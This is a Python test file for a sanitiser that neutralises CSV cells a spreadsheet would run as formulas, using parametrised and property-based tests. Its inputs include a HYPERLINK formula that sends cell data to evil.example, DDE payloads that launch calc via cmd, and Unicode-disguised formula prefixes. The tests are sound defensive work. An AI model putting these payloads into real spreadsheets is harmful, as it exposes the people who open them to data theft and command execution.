"""CSV cells that a spreadsheet would run as formulas are neutralised; nothing else changes."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sync.spreadsheet import csv_text, safe_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click here")',
        "+44 7700 900123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
        "﹦1+1",
        "−1+1",
        "\u200b=1+1",
        "\ufeff@SUM(A1)",
        "\u00a0=1+1",  # a no-break space
        "\u3000-1+1",  # an ideographic space
        "\u200f=SUM(A1)",  # a right-to-left mark, as an Urdu comment may start
        "\u202e+1+1",  # a direction override
        "\u2066@SUM(A1)",  # a direction isolate
    ],
)
def test_a_formula_is_shown_as_text(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Lovely staff", "", "Ward 7", "RWD", "2026_27", "*", "10:30", "It's fine = good"]
)
def test_ordinary_text_is_unchanged(cell):
    assert safe_cell(cell) == cell


def test_numbers_and_none():
    assert (safe_cell(5), safe_cell(0), safe_cell(None)) == ("5", "0", "")


@given(rows=st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_the_layout_never_changes_and_no_cell_starts_a_formula(rows):
    text = csv_text(["a", "b", "c"], rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["a", "b", "c"] and len(read) == len(rows) + 1
    for written, original in zip(read[1:], rows, strict=True):
        assert len(written) == 3
        for cell, before in zip(written, original, strict=True):
            assert cell in (before, "'" + before)
            visible = cell.lstrip(" \u200b\u200c\u200d\u2060\ufeff")
            assert not visible or visible[0] not in "=+-@\t\r\n\0"
